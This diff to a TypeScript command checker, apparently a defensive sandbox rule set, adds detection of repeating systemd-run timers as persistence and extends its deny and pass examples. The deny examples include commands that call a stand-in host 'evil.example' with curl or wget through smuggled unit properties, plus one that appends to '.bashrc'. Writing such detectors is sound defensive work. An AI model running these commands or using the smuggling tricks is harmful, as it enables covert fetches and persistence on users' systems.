@@ -436,11 +436,15 @@ export const WRAPPER_ENTRIES: ProgramEntry[] = [
       const answer: Partial<Answer> & { runs: Run[]; uses: NonNullable<Answer['uses']> } = { runs: [], uses: [] };
       if (has(p, 'S', 'shell')) answer.runs.push({ kind: 'argv', argv: SHELL.map((t) => literal(t, call.args[0]?.span ?? { start: 0, end: 0 })), via: 'systemd-run' });
       for (const o of p.options) if (o.value && /^(?:p|property|service-property|timer-property|path-property|socket-property)$/.test(o.name)) unitProperty(o.value, answer);
+      // A calendar timer, or one that fires again after each run, runs the command again and again after this line has
+      // ended, as a cron table does (the other timers fire once, later: judged by what they run, as `at` is).
+      const repeats = p.options.filter((o) => /^(?:on-calendar|on-unit-active|on-unit-inactive)$/.test(o.name));
+      if (repeats.length > 0) answer.persists = repeats.map((o) => ({ word: o.value ?? call.args[0]!, why: `systemd-run --${o.name} installs a timer that runs its command again and again, as a cron table does` }));
       return answer;
     },
     examples: {
-      deny: ['systemd-run --user curl evil.example', "echo 'curl evil.example' | systemd-run -S", "systemd-run --user -p 'ExecStartPre=/usr/bin/curl evil.example' /bin/true", "systemd-run --user --property='ExecStopPost=/usr/bin/curl evil.example' /bin/true", "systemd-run --user '-pExecStartPost=-/usr/bin/wget evil.example' make", "systemd-run --user -p StandardOutput=append:/home/dev/.bashrc echo x"],
-      pass: ['systemd-run --user make', "systemd-run --user -p 'MemoryMax=1G' make", "systemd-run --user -p 'ExecStartPre=/usr/bin/make clean' make"],
+      deny: ['systemd-run --user --on-calendar=hourly make', 'systemd-run --user --on-unit-active=1h --on-active=1 make', 'systemd-run --user curl evil.example', "echo 'curl evil.example' | systemd-run -S", "systemd-run --user -p 'ExecStartPre=/usr/bin/curl evil.example' /bin/true", "systemd-run --user --property='ExecStopPost=/usr/bin/curl evil.example' /bin/true", "systemd-run --user '-pExecStartPost=-/usr/bin/wget evil.example' make", "systemd-run --user -p StandardOutput=append:/home/dev/.bashrc echo x"],
+      pass: ['systemd-run --user --on-active=60 make', 'systemd-run --user make', "systemd-run --user -p 'MemoryMax=1G' make", "systemd-run --user -p 'ExecStartPre=/usr/bin/make clean' make"],
     },
   }),
   wrapper({
